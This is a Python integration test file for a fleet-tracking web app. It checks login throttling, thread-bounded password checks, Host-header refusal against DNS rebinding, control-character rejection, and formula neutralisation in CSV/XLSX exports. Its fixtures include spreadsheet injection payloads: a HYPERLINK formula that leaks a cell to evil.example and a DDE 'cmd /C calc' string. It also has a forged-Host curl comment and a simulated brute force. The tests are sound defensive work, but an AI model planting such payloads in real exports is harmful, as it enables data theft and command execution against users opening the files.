"""Issue 13, the web's holes: password checks off the event loop and login
lock-outs, DNS rebinding on the loopback default, formula injection in the
exports, control characters in query parameters.

The app runs against a real PostgreSQL (a database of the test's own), either
in uvicorn on a loopback port (real HTTP, for what depends on the event loop
and the Host header) or in Starlette's in-process client."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import re
import socket
import threading
import time
import warnings
import zipfile
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import httpx
import pytest
import uvicorn
from fastapi import FastAPI
from pydantic import SecretStr

from etrack.config import Settings
from etrack.simulator.server import build_config, run_in_thread
from etrack.store import db
from etrack.store.users import User, UserSecrets
from etrack.trips.compute import compute_routes
from etrack.trips.params import RouteParams
from etrack.web import auth, create_app
from etrack.web.deps import WebContext
from etrack.web.exports import report_csv, safe_text
from etrack.web.security import LoginGuard, hash_password
from integration.test_web_api import (
    LOCAL,
    SCHEMA,
    cloned_database,
    load_through_collector,
    simulator_now,
    web_settings,
    working_days,
)

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient


def plain_settings(target: db.Target, tmp_path: Path, **extra: Any) -> Settings:
    return Settings(
        _env_file=None,  # type: ignore[call-arg]
        database_url=SecretStr(target.conninfo),
        etrack_data_dir=tmp_path / "data",
        **extra,
    )


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@contextmanager
def served(app: FastAPI) -> Iterator[str]:
    """The app in uvicorn on a loopback port, in a thread; its base URL."""
    port = free_port()
    server = uvicorn.Server(
        uvicorn.Config(app, host="127.0.0.1", port=port, log_config=None, lifespan="on")
    )
    thread = threading.Thread(target=server.run, name="test-uvicorn", daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert thread.is_alive(), "uvicorn exited"
        assert time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=30)


def web_of(app: FastAPI) -> WebContext:
    web: WebContext = app.state.web
    return web


def guard_of(app: FastAPI) -> LoginGuard:
    guard = web_of(app).login_guard
    assert guard is not None
    return guard


def wait_until(condition: Callable[[], bool], what: str, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.01)


def metric(text: str, name: str, labels: str = "") -> float:
    found = re.search(rf"^{re.escape(name + labels)} (\S+)$", text, re.MULTILINE)
    assert found, f"{name}{labels} not in /metrics"
    return float(found.group(1))


# ------------------------------------------------- point 6: hashing, lockout
def test_password_checks_run_in_bounded_threads_while_healthz_answers(
    target: db.Target, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """20 wrong Basic logins at once: at most ETRACK_WEB_PASSWORD_THREADS
    checks run, each in a thread, and /healthz answers while they all hang.

    The check is held on a gate so "all workers busy" is a state the test
    controls, not a timing: with the check on the event loop (before), the
    first one blocks the loop and /healthz never answers."""
    settings = plain_settings(
        target,
        tmp_path,
        etrack_web_user="admin",
        etrack_web_password=SecretStr(hash_password("s3cret", iterations=1000)),
        etrack_web_password_threads=2,
        etrack_web_login_free_failures=1000,
    )
    gate = threading.Event()
    lock = threading.Lock()
    running = 0
    peak = 0
    real_verify = auth.verify_password

    def gated_verify(given: str, stored: str) -> bool:
        nonlocal running, peak
        with lock:
            running += 1
            peak = max(peak, running)
        try:
            gate.wait(timeout=60)
            return real_verify(given, stored)
        finally:
            with lock:
                running -= 1

    monkeypatch.setattr(auth, "verify_password", gated_verify)
    app = create_app(settings, target, scheduler=False)
    guard = guard_of(app)
    with served(app) as base, ThreadPoolExecutor(20) as pool:
        try:
            attempts = [
                pool.submit(
                    httpx.get, f"{base}/api/vehicles", auth=("admin", f"guess{i}"), timeout=90
                )
                for i in range(20)
            ]
            wait_until(lambda: running == 2 and guard.waiting == 18, "2 checks running, 18 queued")
            health = httpx.get(f"{base}/healthz", timeout=10)
            assert health.status_code == 200, health.text
            # Still held on the gate: /healthz answered while every worker was busy.
            assert running == 2
            assert guard.waiting == 18
        finally:
            gate.set()
        answers = [attempt.result() for attempt in attempts]
        assert [a.status_code for a in answers] == [401] * 20
        assert peak == 2
        assert guard.peak == 2
        scraped = httpx.get(f"{base}/metrics", timeout=10).text
        assert metric(scraped, "etrack_web_login_failures_total", '{via="basic"}') == 20.0
        assert metric(scraped, "etrack_web_password_checks_running") == 0.0


@pytest.mark.slow
def test_a_flood_of_real_pbkdf2_checks_does_not_stall_healthz(
    target: db.Target, tmp_path: Path
) -> None:
    """The real 600k-iteration hash: /healthz answers before the 20 wrong
    logins are through (ordering, not a latency threshold)."""
    settings = plain_settings(
        target,
        tmp_path,
        etrack_web_user="admin",
        etrack_web_password=SecretStr(hash_password("s3cret")),
        etrack_web_password_threads=1,
        etrack_web_login_free_failures=1000,
    )
    app = create_app(settings, target, scheduler=False)
    guard = guard_of(app)
    with served(app) as base, ThreadPoolExecutor(20) as pool:
        attempts = [
            pool.submit(httpx.get, f"{base}/api/vehicles", auth=("admin", f"x{i}"), timeout=300)
            for i in range(20)
        ]
        wait_until(lambda: guard.running == 1 and guard.waiting >= 10, "checks queued")
        health = httpx.get(f"{base}/healthz", timeout=30)
        assert health.status_code == 200
        done = sum(1 for attempt in attempts if attempt.done())
        assert done < 20, "the wrong logins all finished before /healthz answered"
        assert [a.result().status_code for a in attempts] == [401] * 20
        assert guard.peak == 1


def test_200_guesses_slow_down_the_address_but_never_lock_the_owner_out(
    target: db.Target, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A bounded loopback brute force: 200 guesses from one address find
    nothing (five real checks, then that address waits), the right password
    from another address still gets in, and the audit shows every attempt."""
    settings = plain_settings(
        target,
        tmp_path,
        etrack_web_user="admin",
        etrack_web_password=SecretStr("s3cret"),
        etrack_web_login_free_failures=5,
        etrack_web_login_lock_s=600.0,
    )
    app = create_app(settings, target, scheduler=False)
    caplog.set_level(logging.WARNING, logger="etrack.web.security")
    guesses = ["s3cre", "secret", "S3cret", "admin", "123456", *[f"guess{i}" for i in range(195)]]
    with TestClient(app, base_url=LOCAL, client=("203.0.113.7", 50000)) as attacker:
        codes = [
            attacker.get("/api/vehicles", auth=("admin", guess)).status_code for guess in guesses
        ]
        # Five real checks, then the address waits: the rest are refused unchecked.
        assert codes == [401] * 5 + [429] * 195
        right = attacker.get("/api/vehicles", auth=("admin", "s3cret"))
        assert right.status_code == 429
        assert right.json()["detail"].startswith("Muitas tentativas de login falharam.")
        assert 590 <= int(right.headers["retry-after"]) <= 600
        # The form shares the wait (same address).
        form = attacker.get("/login").text
        token = re.search(r'name="csrf_token" value="([^"]+)"', form)
        assert token
        page = attacker.post(
            "/login",
            data={"username": "admin", "password": "s3cret", "csrf_token": token.group(1)},
        )
        assert page.status_code == 429
        assert "Muitas tentativas de login falharam" in page.text
        scraped = attacker.get("/metrics").text
    # The owner, from another address, is slowed (the login's failures) but gets in.
    with TestClient(app, base_url=LOCAL, client=("198.51.100.20", 40000)) as owner:
        form = owner.get("/login").text
        token = re.search(r'name="csrf_token" value="([^"]+)"', form)
        assert token
        entered = owner.post(
            "/login",
            data={"username": "admin", "password": "s3cret", "csrf_token": token.group(1)},
            follow_redirects=False,
        )
        assert entered.status_code == 303
        assert owner.get("/api/vehicles").status_code == 200
    assert metric(scraped, "etrack_web_login_failures_total", '{via="basic"}') == 5.0
    assert metric(scraped, "etrack_web_login_refused_total", '{via="basic"}') == 196.0
    assert metric(scraped, "etrack_web_login_refused_total", '{via="form"}') == 1.0
    slowed = [r.getMessage() for r in caplog.records if "slowed down" in r.getMessage()]
    assert slowed
    assert "address 203.0.113.7" in slowed[0]
    assert "after 5 failures" in slowed[0]
    assert "s3cret" not in caplog.text
    with db.connection(target) as conn:
        audited = dict(
            conn.execute(
                "SELECT action || ' ' || coalesce(address, '') || ' ' || ok, count(*)"
                " FROM audit WHERE action LIKE 'login.%%' GROUP BY 1"
            ).fetchall()
        )
        hashes = conn.execute("SELECT password_hash FROM users").fetchall()
        dumped = str(conn.execute("SELECT * FROM audit").fetchall())
    assert audited == {
        "login.failure 203.0.113.7 false": 5,
        "login.throttled 203.0.113.7 false": 197,
        "login.success 198.51.100.20 true": 1,
    }
    assert hashes
    assert all(h[0] not in dumped for h in hashes)
    assert "s3cret" not in dumped
    assert "guess1" not in dumped


def test_the_wait_expires_doubles_and_spares_a_proven_script(
    target: db.Target, tmp_path: Path
) -> None:
    settings = plain_settings(
        target,
        tmp_path,
        etrack_web_user="admin",
        etrack_web_password=SecretStr("s3cret"),
        etrack_web_login_free_failures=2,
        etrack_web_login_lock_s=0.5,
    )
    app = create_app(settings, target, scheduler=False)
    with TestClient(app, base_url=LOCAL) as client:
        # A script that proved its header before the attack keeps working.
        proven = httpx.BasicAuth("admin", "s3cret")
        assert client.get("/api/vehicles", auth=proven).status_code == 200
        assert [
            client.get("/api/vehicles", auth=("admin", "no")).status_code for _ in range(3)
        ] == [401, 401, 429]
        assert client.get("/api/vehicles", auth=proven).status_code == 200
        # Another user name from the same address waits too (the address key).
        assert client.get("/api/vehicles", auth=("root", "x")).status_code == 429
    guard = guard_of(app)
    wait_until(lambda: guard.retry_after("admin", "testclient") == 0, "the wait to end", 10)
    with TestClient(app, base_url=LOCAL) as client:
        # One more failure after the wait: waiting again, twice as long.
        assert client.get("/api/vehicles", auth=("admin", "no")).status_code == 401
        assert 0.5 < guard.retry_after("admin", "testclient") <= 1.0
        wait_until(lambda: guard.retry_after("admin", "testclient") == 0, "the wait to end", 10)
        # The right password works once the wait is over, and forgets the failures.
        assert client.get("/api/vehicles", auth=("admin", "s3cret")).status_code == 200
        assert guard.retry_after("admin", "testclient") == 0
        assert client.get("/api/vehicles", auth=("admin", "no")).status_code == 401


def test_the_guard_slows_per_address_and_never_locks_a_login_out() -> None:
    now = [1000.0]
    owner = UserSecrets(
        User(1, "admin", "", "admin", (), (), False, True, 0, None, None),
        password_hash=None,
        totp_secret=None,
    )

    def verify(user: str, password: str) -> UserSecrets | None:
        return owner if (user, password) == ("admin", "s3cret") else None

    guard = LoginGuard(verify, free=3, lock_s=10, lock_max_s=60, clock=lambda: now[0])

    async def attempts() -> None:
        for address in ("10.0.0.1", "10.0.0.2", "10.0.0.3"):
            assert not (await guard.check("admin", "no", address, via="basic")).ok
        # Failures of one login from many addresses: slowed, never refused.
        assert guard.delay("admin") > 0
        assert (await guard.check("admin", "s3cret", "10.0.0.9", via="basic")).ok
        assert guard.delay("admin") == 0
        for user in ("u1", "u2", "u3"):
            await guard.check(user, "no", "10.0.0.7", via="basic")
        # The address waits for any login, even the right one.
        assert (await guard.check("admin", "s3cret", "10.0.0.7", via="basic")).locked
        assert (await guard.check("admin", "s3cret", "10.0.0.8", via="basic")).ok
        now[0] += 10.5
        assert (await guard.check("admin", "s3cret", "10.0.0.7", via="basic")).ok
        # Each try right after a wait ends doubles it, up to lock_max_s.
        waits = []
        for _ in range(8):
            now[0] += guard.retry_after("carol", "10.0.0.8")
            await guard.check("carol", "no", "10.0.0.8", via="basic")
            waits.append(guard.retry_after("carol", "10.0.0.8"))
        assert waits == [0, 0, 10, 20, 40, 60, 60, 60]
        # Failures older than lock_max_s are forgotten.
        now[0] += 61
        await guard.check("carol", "no", "10.0.0.8", via="basic")
        assert guard.retry_after("carol", "10.0.0.8") == 0

    asyncio.run(attempts())


# ------------------------------------------------------ point 7: Host header
def test_a_foreign_host_is_refused_on_the_loopback_default(
    target: db.Target, tmp_path: Path
) -> None:
    app = create_app(plain_settings(target, tmp_path), target, scheduler=False)
    with served(app) as base:
        port = base.rsplit(":", 1)[1]
        # curl -H 'Host: evil.example.com' http://127.0.0.1:PORT/api/vehicles
        for path in ("/api/vehicles", "/healthz", "/"):
            evil = httpx.get(f"{base}{path}", headers={"Host": "evil.example.com"}, timeout=10)
            assert evil.status_code == 400, path
            assert "ETRACK_WEB_ALLOWED_HOSTS" in evil.text
            assert f"http://127.0.0.1:{port}/" in evil.text
        rebound = httpx.get(
            f"{base}/api/vehicles", headers={"Host": f"evil.example.com:{port}"}, timeout=10
        )
        assert rebound.status_code == 400
        assert rebound.json()["detail"].startswith("Host 'evil.example.com:")
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", "localhost"):
            ok = httpx.get(f"{base}/api/vehicles", headers={"Host": host}, timeout=10)
            assert ok.status_code == 200, host
        scraped = httpx.get(f"{base}/metrics", timeout=10).text
        assert metric(
            scraped, "etrack_http_requests_total",
            '{endpoint="unmatched",method="GET",outcome="client_error"}',
        ) == 4.0  # fmt: skip


def test_allowed_hosts_add_names_and_apply_with_a_login(target: db.Target, tmp_path: Path) -> None:
    settings = plain_settings(target, tmp_path, etrack_web_allowed_hosts="Fleet.Example.com, ")
    app = create_app(settings, target, scheduler=False)
    with TestClient(app, base_url=LOCAL) as client:
        assert client.get("/api/vehicles", headers={"Host": "fleet.example.com"}).status_code == 200
        assert client.get("/api/vehicles", headers={"Host": "other.example"}).status_code == 400
    # With a login and no list, the login protects: any Host is served to it.
    login = {"etrack_web_user": "admin", "etrack_web_password": SecretStr("s3cret")}
    app = create_app(plain_settings(target, tmp_path, **login), target, scheduler=False)
    with TestClient(app, base_url=LOCAL) as client:
        answer = client.get(
            "/api/vehicles", headers={"Host": "fleet.example.com"}, auth=("admin", "s3cret")
        )
        assert answer.status_code == 200
    # With a login and a list, the list applies too (behind a proxy).
    app = create_app(
        plain_settings(target, tmp_path, etrack_web_allowed_hosts="fleet.example.com", **login),
        target,
        scheduler=False,
    )
    with TestClient(app, base_url=LOCAL) as client:
        auth = ("admin", "s3cret")
        assert (
            client.get("/api/vehicles", headers={"Host": "x.example"}, auth=auth).status_code == 400
        )
        assert (
            client.get(
                "/api/vehicles", headers={"Host": "fleet.example.com:443"}, auth=auth
            ).status_code
            == 200
        )


# ------------------------------------------------ point 10: NUL in a query
def test_control_characters_in_query_parameters_are_a_400(
    target: db.Target, tmp_path: Path
) -> None:
    app = create_app(plain_settings(target, tmp_path), target, scheduler=False)
    with TestClient(app, base_url=LOCAL, raise_server_exceptions=False) as client:
        for path in (
            "/api/vehicles?frota=%00",
            "/api/vehicles?account=%00",
            "/api/report?frota=a%01b",
        ):
            answer = client.get(path)
            assert answer.status_code == 400, (path, answer.text)
            assert "control character" in answer.json()["detail"]
        page = client.get("/?frota=%00")
        assert page.status_code == 400
        assert "query parameter 'frota' contains the control character U+0000" in page.text
        # Printable text, accents included, is untouched.
        assert client.get("/api/vehicles?frota=S%C3%A3o%20Paulo").status_code == 200


# -------------------------------------------- point 8: formula injection
POISON = {
    "descricao": '=HYPERLINK("http://evil.example/?"&A1,"clique")',
    "frota": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_exports_neutralise_formulas_but_keep_numbers(
    pg_server_url: str, template_database: str, tmp_path: Path
) -> None:
    """descricao and frota as the simulator's API sends them, poisoned, through
    the collector and PostgreSQL into the CSV and XLSX report."""
    config = build_config(seed=42, vehicles=2, now=simulator_now())
    with cloned_database(pg_server_url, template_database) as url, run_in_thread(config) as sim:
        # The simulator's roster, poisoned in place: its HTTP answers carry these texts.
        roster = sim.fleet._vehicles
        for plate, vehicle in list(roster.items()):
            roster[plate] = replace(vehicle, descricao=POISON["descricao"], frota=POISON["frota"])
        target = db.Target(url, SCHEMA, embedded=False)
        settings = web_settings(url, sim, tmp_path / "data")
        today = simulator_now().date()
        days = working_days(sim, today)
        plates = sorted(sim.fleet.plates())
        load_through_collector(settings, target, plates, days)
        compute_routes(target, RouteParams.from_settings(settings), plates=plates, days=days)
        app = create_app(settings, target, scheduler=False)
        query = f"start={days[0].isoformat()}&end={days[-1].isoformat()}"
        with TestClient(app, base_url=LOCAL) as client:
            listed = client.get("/api/vehicles").json()["vehicles"]
            assert {v["descricao"] for v in listed} == {POISON["descricao"]}
            text = client.get(f"/api/report/export/csv?{query}").text
            book = client.get(f"/api/report/export/xlsx?{query}").content
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        assert row["descricao"] == "'" + POISON["descricao"]
        assert row["frota"] == "'" + POISON["frota"]
        assert float(row["distance_km"]) > 0
    cells = xlsx_rows(book)
    assert len(cells) == len(rows) + 1
    for row_cells in cells[1:]:
        texts = [v for v in row_cells if isinstance(v, str)]
        assert "'" + POISON["descricao"] in texts
        assert "'" + POISON["frota"] in texts
        assert not any(t.startswith(("=", "@", "+", "-")) for t in texts)
        assert any(isinstance(v, float) and v > 0 for v in row_cells)


XLSX_NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def xlsx_rows(book: bytes) -> list[list[str | float]]:
    """The first sheet's cells: texts and numbers; a formula cell fails the test."""
    # Our own file, just written by xlsxwriter: the plain XML parser is fine.
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        strings = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))  # noqa: S314
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    shared = [
        "".join(t.text or "" for t in item.iter(f"{{{XLSX_NS['x']}}}t"))
        for item in strings.findall("x:si", XLSX_NS)
    ]
    found: list[list[str | float]] = []
    for row in sheet.iter(f"{{{XLSX_NS['x']}}}row"):
        values: list[str | float] = []
        for cell in row.findall("x:c", XLSX_NS):
            assert cell.find("x:f", XLSX_NS) is None, "a formula cell"
            value = cell.findtext("x:v", default="", namespaces=XLSX_NS)
            values.append(shared[int(value)] if cell.get("t") == "s" else float(value))
        found.append(values)
    return found


def test_only_text_cells_are_quoted() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert safe_text(text) == "'" + text
    assert safe_text("Caminhão - ABC") == "Caminhão - ABC"
    rows = [
        {"placa": "ABC1D23", "descricao": "-2", "frota": "+Frota", "days": 1,
         "distance_km": -12.5, "max_speed_kmh": -0.0, "trip_count": 0, "event_count": 3},
    ]  # fmt: skip
    line = report_csv(rows).decode().splitlines()[1]
    # Negative numbers stay numbers; the text "-2" is quoted.
    assert line == "ABC1D23,'-2,'+Frota,1,-12.5,,,,-0.0,,0,3"
